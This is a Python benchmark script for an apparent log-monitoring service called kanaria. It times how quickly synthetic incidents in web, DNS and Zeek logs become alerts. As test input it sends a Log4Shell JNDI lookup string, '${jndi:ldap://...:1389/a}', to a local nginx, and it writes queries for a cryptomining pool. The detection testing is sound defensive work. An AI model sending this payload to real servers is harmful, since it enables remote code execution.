"""From a line in a log to a message at a local sink: how long ``kanaria serve`` takes, quiet and under load.

In: nothing, or which cases. Each has ordinary load at a fixed rate, and now and then something that somebody is to hear
of at once, each by another machine, so that it is an incident of its own and one message:

* ``lines``: a web log grows; a DNS server's log gets a query for a mining pool.
* ``flows``: Zeek's ``conn.log`` grows by connections of an office whose days before were learned; Zeek's ``dns.log``
  gets a query for a mining pool, or (every second time) ``ssl.log`` a handshake with one.
* ``nginx``: a real nginx answers ordinary requests and now and then one that tries Log4Shell; it writes its log itself.

Out: a table of seconds from writing the line (nginx: from sending the request) to the arrival of its message, what the
service used of a processor, by how much the writer of the load was late at most, and the load of the machine.
Status 1 when a message did not come. ``python -m benchmarks.serve_latency [lines] [flows] [nginx] [--messages 60]``
"""

from __future__ import annotations

import argparse
import contextlib
import json
import os
import re
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable, Iterator, Sequence
from contextlib import AbstractContextManager, contextmanager, nullcontext
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path

from benchmarks import size
from benchmarks.serving import ACCESS, DNS, ZEEK, Phone, patient, start, write_settings

POOL = "pool.supportxmr.com"
ORDINARY = '192.0.2.{client} - - [{when}] "GET /page/{number} HTTP/1.1" 200 {size} "-" "Mozilla/5.0 (X11; Linux)"\n'
QUERY = "{when} dnsmasq[71]: query[A] {pool} from {device}\n"
SERVER = """\
daemon off; master_process off; pid {folder}/nginx.pid; error_log {folder}/error.log;
events {{}}
http {{
    access_log {folder}/access.log combined;
    client_body_temp_path {folder}/t; proxy_temp_path {folder}/t; fastcgi_temp_path {folder}/t;
    uwsgi_temp_path {folder}/t; scgi_temp_path {folder}/t;
    keepalive_requests 1000000000; keepalive_timeout 1h;
    set_real_ip_from unix:; real_ip_header X-Real-IP;
    server {{ listen unix:{folder}/nginx.socket; location / {{ return 200 "hello"; }} }}
}}
"""
REQUEST = (
    "GET {path} HTTP/1.1\r\nHost: www.example.com\r\nX-Real-IP: {client}\r\n"
    "User-Agent: Mozilla/5.0 (X11; Linux)\r\n\r\n"
)
EXPLOIT = "/?q=${{jndi:ldap://{client}:1389/a}}"
STEP = 0.02
"""Seconds between two bursts of ordinary load."""
PATIENCE = 30.0
"""Seconds after the last line in which messages may still come."""
DAYS, WORKSTATIONS = size((3, 60), (1, 5))
"""What was learned of the office before. Less than the week after which anomalies are told: the load is so many days in
as many seconds, and would be one."""
ADDRESS = re.compile(r"\d+\.\d+\.\d+\.\d+")


# ---- what is written ------------------------------------------------------------------------------------------------


@dataclass(frozen=True, kw_only=True)
class Case:
    """What is watched, what grows, and what is to be told.

    ``ordinary`` writes the n-th up to another of ordinary records, ``urgent`` the n-th that somebody is to hear of and
    says by whom it is; ``running`` is open while both write, ``before`` once ahead of everything."""

    sources: str
    rates: Sequence[int]
    ordinary: Callable[[Path, int, int], None]
    urgent: Callable[[Path, int], str]
    before: Callable[[Path], None] = lambda _folder: None
    running: Callable[[Path], AbstractContextManager[None]] = lambda _folder: nullcontext()


def append(log: Path, text: str) -> None:
    with log.open("a") as file:
        file.write(text)


def web_lines(folder: Path, first: int, until: int) -> None:
    when = datetime.now(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")
    lines = (ORDINARY.format(client=n % 200, when=when, number=n % 997, size=n % 5000) for n in range(first, until))
    append(folder / "access.log", "".join(lines))


def asked_dnsmasq(folder: Path, number: int) -> str:
    device, when = f"10.0.{number // 250}.{number % 250 + 1}", f"{datetime.now(UTC):%b %e %H:%M:%S}"
    append(folder / "dnsmasq.log", QUERY.format(when=when, pool=POOL, device=device))
    return device


class Office:
    """An office's connections as Zeek writes them: when they end, with the time they began."""

    def __init__(self) -> None:
        self._rows: list[tuple[str, float]] = []
        """Lines without time and id, and how long each connection lasted."""

    def learn(self, folder: Path) -> None:
        """Have the days before now learned into the store."""
        import pyarrow as pa

        from kanaria.lab import office, zeek_log

        table = office.generate(days=DAYS, workstations=WORKSTATIONS, deviations=False).tables["connection"]
        times = table["time"].cast(pa.int64()).to_numpy()
        shifted = pa.array(times + (int(time.time() * 1e6) - int(times[-1])), pa.timestamp("us", "UTC"))
        place = table.schema.get_field_index("time")
        rows = table.set_column(place, "time", shifted.cast(table.schema.field(place).type)).to_pylist()
        log = folder / "before" / "conn.log"
        log.parent.mkdir()
        lines = list(zeek_log.lines(rows))
        log.write_text("".join(lines))
        command = [sys.executable, "-m", "kanaria", "analyze", "--store", "store", "before"]
        done = subprocess.run(command, cwd=folder, check=False, capture_output=True, text=True)
        if done.returncode not in {0, 1}:
            raise SystemExit(f"learning the days before ended with status {done.returncode}:\n{done.stderr}")
        shutil.rmtree(log.parent)
        (folder / "zeek").mkdir()
        self._rows = [plain(line) for line in lines[-len(lines) // DAYS :]]

    def ordinary(self, folder: Path, first: int, until: int) -> None:
        now = time.time()
        chosen = ((n, *self._rows[n % len(self._rows)]) for n in range(first, until))
        lines = (f'{{"ts": {now - lasted:.6f}, "uid": "N{n:017d}", {rest}' for n, rest, lasted in chosen)
        append(folder / "zeek" / "conn.log", "".join(lines))


def plain(line: str) -> tuple[str, float]:
    entry = json.loads(line)
    lasted = entry.get("duration", 0.0)
    return json.dumps({name: value for name, value in entry.items() if name not in {"ts", "uid"}})[1:] + "\n", lasted


def asked_zeek(folder: Path, number: int) -> str:
    device = f"10.9.{number // 250}.{number % 250 + 1}"
    entry = {"ts": round(time.time(), 6), "uid": f"U{number:017d}", "id.orig_h": device, "id.orig_p": 40_000 + number}
    if number % 2:
        entry |= {"id.resp_h": "203.0.113.77", "id.resp_p": 443, "version": "TLSv13", "server_name": POOL}
        append(folder / "zeek" / "ssl.log", json.dumps(entry | {"established": True}) + "\n")
    else:
        entry |= {"id.resp_h": "10.0.0.53", "id.resp_p": 53, "proto": "udp", "query": POOL, "qtype_name": "A"}
        append(folder / "zeek" / "dns.log", json.dumps(entry | {"rcode_name": "NOERROR"}) + "\n")
    return device


class Nginx:
    """A real nginx, and connections to it that stay open."""

    def __init__(self) -> None:
        self._load: socket.socket | None = None

    @contextmanager
    def running(self, folder: Path) -> Iterator[None]:
        (folder / "nginx.conf").write_text(SERVER.format(folder=folder))
        binary = found_nginx() or "nginx"
        server = subprocess.Popen([binary, "-p", str(folder), "-c", str(folder / "nginx.conf")])
        try:
            while not (folder / "nginx.socket").exists():
                if server.poll() is not None:
                    raise SystemExit(f"nginx ended with status {server.returncode}")
                time.sleep(0.05)
            with self._connected(folder) as self._load:
                yield
        finally:
            server.terminate()
            server.wait()

    def ordinary(self, _folder: Path, first: int, until: int) -> None:
        numbers = range(first, until)
        sent = (REQUEST.format(path=f"/page/{n % 997}", client=f"192.0.2.{n % 200}") for n in numbers)
        self._exchange(self._load, "".join(sent), len(numbers))

    def urgent(self, folder: Path, number: int) -> str:
        client = f"198.{18 + number // 250}.{number % 250}.7"  # a network each: neighbours are one incident
        with self._connected(folder) as asking:
            self._exchange(asking, REQUEST.format(path=EXPLOIT.format(client=client), client=client), 1)
        return client

    @staticmethod
    @contextmanager
    def _connected(folder: Path) -> Iterator[socket.socket]:
        with contextlib.closing(socket.socket(socket.AF_UNIX)) as made:
            made.connect(str(folder / "nginx.socket"))
            yield made

    @staticmethod
    def _exchange(peer: socket.socket | None, sent: str, answers: int) -> None:
        """Send requests and wait until each is answered."""
        assert peer is not None
        peer.sendall(sent.encode())
        got = b""
        while got.count(b"hello") < answers:
            got += (more := peer.recv(1 << 20))
            if not more:
                raise SystemExit("nginx closed the connection")


def found_nginx() -> str | None:
    return shutil.which("nginx", path=f"{os.environ.get('PATH', '')}:/usr/sbin:/usr/local/sbin")


def cases() -> dict[str, Case]:
    """By name; without an nginx, without that one."""
    office, nginx = Office(), Nginx()
    made = {
        "lines": Case(
            sources=ACCESS + DNS, rates=size([0, 1000, 5000], [0]), ordinary=web_lines, urgent=asked_dnsmasq
        ),
        "flows": Case(
            sources=ZEEK, rates=size([0, 500, 2000], [20]), before=office.learn, ordinary=office.ordinary,
            urgent=asked_zeek,
        ),
        "nginx": Case(
            sources=ACCESS, rates=size([0, 5000], [20]), ordinary=nginx.ordinary, urgent=nginx.urgent,
            running=nginx.running,
        ),
    }  # fmt: skip
    if not found_nginx():
        print("no nginx is installed: that case is left out", file=sys.stderr)
        del made["nginx"]
    return made


# ---- measuring ------------------------------------------------------------------------------------------------------


@dataclass
class Load:
    """Ordinary records at a rate, until it is over."""

    write: Callable[[int, int], None]
    rate: int
    over: threading.Event = field(default_factory=threading.Event)
    late: float = 0.0
    """Seconds a burst came too late at most: then it was the writer that could not keep up."""

    def run(self) -> None:
        number, begun = 0, time.monotonic()
        while self.rate and not self.over.wait(STEP):
            due = int((time.monotonic() - begun) * self.rate)
            self.late = max(self.late, (due - number) / self.rate - STEP)
            if due > number:
                self.write(number, due)
            number = due


@dataclass(frozen=True)
class Result:
    """Sorted seconds of the messages that came, how many did not, the service's processor seconds a second."""

    seconds: list[float]
    missing: int
    processor: float
    late: float


def arrived(phone: Phone) -> dict[str, float]:
    """When each address was first named in a message."""
    first: dict[str, float] = {}
    for message in phone.messages:
        for address in ADDRESS.findall(json.dumps(message).replace("[.]", ".")):
            first.setdefault(address, message["came"])
    return first


def measure(case: Case, folder: Path, rate: int, messages: int, pause: float) -> Result:
    """One case at one rate. Raises SystemExit when the service ends before it is told to."""
    phone = Phone(folder)
    write_settings(folder, case.sources, phone)
    with contextlib.closing(phone), case.running(folder):
        load = Load(lambda first, until: case.ordinary(folder, first, until), rate)
        writing, service = threading.Thread(target=load.run, daemon=True), start(folder)
        try:
            writing.start()
            begun, worked = time.monotonic(), service.processor
            written: dict[str, float] = {}
            for number in range(messages):
                time.sleep(pause)
                service.alive()
                at = time.monotonic()
                written[case.urgent(folder, number)] = at
            patient(lambda: written.keys() <= arrived(phone).keys(), PATIENCE, alive=service.alive, every=0.5)
            share = (service.processor - worked) / (time.monotonic() - begun)
        finally:
            load.over.set()
            writing.join()
            service.end()
        named = arrived(phone)
    came = sorted(named[who] - at for who, at in written.items() if who in named)
    return Result(came, messages - len(came), share, load.late)


def row(name: str, rate: int, result: Result) -> str:
    """One line of the table."""
    found = [*result.seconds, *[float("inf")] * result.missing]
    p50, p99 = found[len(found) // 2], found[min(len(found) - 1, int(len(found) * 0.99))]
    times = f"{p50:.3f} | {p99:.3f} | {found[-1]:.3f}"
    rest = f"{result.processor:.2f} | {result.late:.2f} | {os.getloadavg()[0]:.1f}"
    return f"| {name} | {rate:,} | {len(found)} | {times} | {rest} |"


def main() -> int:
    options = argparse.ArgumentParser(prog="python -m benchmarks.serve_latency")
    options.add_argument("cases", nargs="*", help="lines, flows, nginx; default: all")
    options.add_argument("--messages", type=int, default=size(60, 2))
    options.add_argument("--rates", type=int, nargs="*", help="records a second, instead of each case's own")
    options.add_argument("--pause", type=float, default=0.5)
    given = options.parse_args()
    known, missing = cases(), 0
    if unknown := set(given.cases) - known.keys():
        options.error(f"no such case: {', '.join(sorted(unknown))}")
    print("| case | records a second | messages | p50 s | p99 s | longest s | processors | writer late s | load |")
    print("|---|---|---|---|---|---|---|---|---|")
    for name in given.cases or known:
        with tempfile.TemporaryDirectory(prefix="kanaria-latency-") as once:
            known[name].before(Path(once))
            for rate in known[name].rates if given.rates is None else given.rates:
                with tempfile.TemporaryDirectory(prefix="kanaria-latency-") as made:
                    folder = Path(shutil.copytree(once, made, dirs_exist_ok=True))
                    result = measure(known[name], folder, rate, given.messages, given.pause)
                print(row(name, rate, result), flush=True)
                missing += result.missing
    if missing:
        print(f"{missing} messages did not come within {PATIENCE:.0f} s after the last line", file=sys.stderr)
    return 1 if missing else 0


if __name__ == "__main__":
    sys.exit(main())
